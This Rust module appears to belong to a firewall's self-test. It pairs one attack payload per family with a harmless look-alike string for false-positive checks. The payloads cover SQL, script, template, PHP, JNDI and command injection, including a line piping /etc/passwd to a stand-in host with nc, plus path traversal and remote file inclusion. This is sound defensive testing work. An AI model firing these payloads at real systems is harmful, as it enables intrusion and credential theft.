//! What the self-test sends: one attack of each family, and something harmless that shares words with it.

use super::Place;

/// A kind of attack, and something harmless in the same place.
pub(super) struct Family {
    pub(super) name: &'static str,
    pub(super) attack: Sample,
    pub(super) twin: Sample,
    pub(super) places: &'static [Place],
}

/// What is sent.
pub(super) struct Sample {
    /// The name of the parameter or member, where there is one.
    pub(super) field: &'static str,
    pub(super) text: &'static str,
    /// One more field of the head.
    pub(super) beside: Option<(&'static str, &'static str)>,
}

const fn sample(field: &'static str, text: &'static str) -> Sample {
    Sample { field, text, beside: None }
}

const fn everywhere(name: &'static str, attack: &'static str, twin: &'static str) -> Family {
    Family { name, attack: sample("note", attack), twin: sample("note", twin), places: &Place::TEXTS }
}

/// Plain enough for the strictest level of the rule sets in use, where punctuation alone is taken for an attack.
pub(super) const FAMILIES: [Family; 11] = [
    everywhere("SQL injection", "-7' UNION ALL SELECT login,password FROM members-- -", "members-of-the-union"),
    everywhere("script injection", "<img src=x onerror=alert(document.cookie)>", "image-of-a-cookie"),
    everywhere("path traversal", "../../../../../../../../etc/shadow", "shadow-theatre"),
    Family {
        name: "remote file inclusion",
        attack: sample("page", "http://198.51.100.7/include.txt?"),
        twin: sample("page", "include"),
        places: &Place::TEXTS,
    },
    everywhere("command injection", "x; cat /etc/passwd | nc 198.51.100.7 4444", "a-cat-and-a-pipe"),
    everywhere("PHP injection", "<?php passthru('cat /etc/passwd'); ?>", "a-book-about-php"),
    everywhere(
        "template injection",
        "{{''.__class__.__mro__[1].__subclasses__()[132].__init__.__globals__['popen']('cat /etc/passwd').read()}}",
        "a-class-of-its-own",
    ),
    everywhere("lookup injection", "${jndi:ldap://198.51.100.7:1389/Exploit}", "a-directory-lookup"),
    Family {
        name: "session fixation",
        attack: Sample { beside: FOREIGN, ..sample("phpsessid", "0123456789abcdef") },
        twin: Sample { beside: FOREIGN, ..sample("note", "0123456789abcdef") },
        places: &[Place::Query],
    },
    Family {
        name: "scanner",
        attack: sample("", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"),
        twin: sample("", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:139.0) Gecko/20100101 Firefox/139.0"),
        places: &[Place::Agent],
    },
    Family {
        name: "NoSQL injection",
        attack: sample("password[$ne]", "x"),
        twin: sample("password", "x"),
        places: &[Place::Query, Place::Form],
    },
];

/// Whoever plants a session sends its victim over from elsewhere.
const FOREIGN: Option<(&str, &str)> = Some(("Referer", "https://elsewhere.example/"));
